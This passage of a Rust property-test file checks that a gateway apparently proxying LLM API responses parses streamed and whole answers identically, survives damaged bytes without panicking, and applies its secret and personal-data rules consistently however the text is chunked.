        ("anthropic.messages", Form::Document, br#"{"model":"m","content":[]}"#, Some("m")),
        (
            "anthropic.messages",
            SSE,
            b"event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"model\":\"m\"}}\n\n",
            Some("m"),
        ),
        ("gemini.generate", Form::Document, br#"{"candidates":[],"modelVersion":"m"}"#, Some("m")),
        ("ollama.chat", LINES, b"{\"model\":\"m\",\"done\":true}\n", Some("m")),
        ("mistral.chat", Form::Document, br#"{"model":"m"}"#, Some("m")),
        ("cohere.chat", Form::Document, br#"{"id":"m"}"#, None),
        ("openai.chat", Form::Document, long.as_bytes(), None),
        ("openai.chat", Form::Document, br#"{"choices":[{"message":{"content":"{}","model":"m"}}]}"#, None),
    ];
    for (format, form, answer, expected) in cases {
        let (output, broken, response) = Case::new(format, *form, &Tokens::default()).run([*answer]);
        assert_eq!((response.report().model.as_deref(), broken), (*expected, None), "{format}");
        assert_eq!(output, *answer, "{format}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn however_the_bytes_are_cut_the_outcome_is_that_of_the_whole(
        which in 0..STREAMS.len(),
        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..12),
    ) {
        let (format, form, answer) = &STREAMS[which];
        let (tokens, ..) = &*PLACEHOLDERS;
        let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(answer.len() + 1)).chain([0, answer.len()]).collect();
        at.sort_unstable();
        let chunks = at.windows(2).map(|pair| &answer[pair[0]..pair[1]]);
        let (output, broken, response) = Case::new(format, *form, tokens).run(chunks);
        let (expected, outcome) = &WHOLE[which];
        prop_assert_eq!(&output, expected);
        prop_assert_eq!(&format!("{broken:?} {:?}", verdict(&response)), outcome);
    }
}

/// An answer with some of its bytes changed, cut away or doubled.
fn damaged(answer: &[u8], damage: &[(proptest::sample::Index, u8, u8)]) -> Vec<u8> {
    let mut bytes = answer.to_vec();
    for (at, how, byte) in damage {
        let at = at.index(bytes.len().max(1)).min(bytes.len());
        match how % 4 {
            0 if at < bytes.len() => bytes[at] = *byte,
            1 => bytes.truncate(at),
            2 => bytes.insert(at, *byte),
            _ => bytes.extend_from_within(at..),
        }
    }
    bytes
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases() / 4, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_damaged_answer_ends_in_the_same_way_however_it_is_cut_and_never_in_a_panic(
        which in 0..STREAMS.len(),
        damage in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>(), any::<u8>()), 1..4),
        cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..8),
        form in 0..6_usize,
    ) {
        let (format, own, answer) = &STREAMS[which];
        let (tokens, ..) = &*PLACEHOLDERS;
        let answer = damaged(answer, &damage);
        let form = [*own, *own, Form::Document, ARRAY, LINES, EVENTS][form];
        let mut at: Vec<usize> = cuts.iter().map(|cut| cut.index(answer.len() + 1)).chain([0, answer.len()]).collect();
        at.sort_unstable();
        let (expected, ended, whole) = Case::new(format, form, tokens).run([&answer[..]]);
        let chunks = at.windows(2).map(|pair| &answer[pair[0]..pair[1]]);
        let (output, broken, response) = Case::new(format, form, tokens).run(chunks);
        prop_assert_eq!(output, expected);
        prop_assert_eq!(broken, ended);
        prop_assert_eq!(format!("{:?}", verdict(&response)), format!("{:?}", verdict(&whole)));
    }
}

/// What the shipped rules for secrets and personal data are proved with, found or not.
static EXAMPLES: LazyLock<Vec<String>> = LazyLock::new(|| {
    let rules = RuleSet::builtin().expect("the shipped rules parse");
    let sensitive = rules.rules().iter().filter(|rule| rule.category.is_sensitive());
    sensitive
        .flat_map(|rule| rule.examples.iter().chain(&rule.negative_examples))
        .map(|text| text.replace(['«', '»'], ""))
        .collect()
});

proptest! {
    #![proptest_config(ProptestConfig { cases: cases() / 10, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn however_the_model_cuts_its_text_the_caller_reads_the_same(
        parts in proptest::collection::vec((0..EXAMPLES.len(), 0..7_usize), 1..16),
        sizes in proptest::collection::vec(1..40_usize, 1..6),
    ) {
        let between = [" ", "\n", ", ", ". It was ", "» «", "。", "” – „"];
        let text: String = parts.iter().flat_map(|(example, gap)| [EXAMPLES[*example].as_str(), between[*gap]]).collect();
        let tokens = Tokens::default();
        let case = Case::new("openai.chat", SSE, &tokens);
        let event = |piece: &str| DIALECTS[0].text.replace("{}", &serde_json::to_string(piece).unwrap());
        let (mut answer, mut rest) = (String::new(), text.as_str());
        for size in sizes.iter().cycle() {
            if rest.is_empty() {
                break;
            }
            let (piece, behind) = rest.split_at(rest.ceil_char_boundary((*size).min(rest.len())));
            answer.push_str(&event(piece));
            rest = behind;
        }
        let whole = joined(&case.whole(event(&text).as_bytes()), DIALECTS[0].text_at);
        let read = joined(&case.whole(answer.as_bytes()), DIALECTS[0].text_at);
        prop_assert_eq!(&read, &whole, "{}", text);
        let document = serde_json::json!({"choices": [{"message": {"content": text}}]}).to_string();
        let output = Case::new("openai.chat", Form::Document, &tokens).whole(document.as_bytes());
        let output: serde_json::Value = serde_json::from_str(&output).expect("JSON");
        prop_assert_eq!(output["choices"][0]["message"]["content"].as_str(), Some(&*whole), "{}", text);
    }
}

static PLACEHOLDERS: LazyLock<(Tokens, String, String)> = LazyLock::new(placeholders);

/// `PROMPTGATE_CASES` sets how many; CI runs a hundred thousand in an optimised build.
fn cases() -> u32 {
    std::env::var("PROMPTGATE_CASES").ok().and_then(|cases| cases.parse().ok()).unwrap_or(300)
}
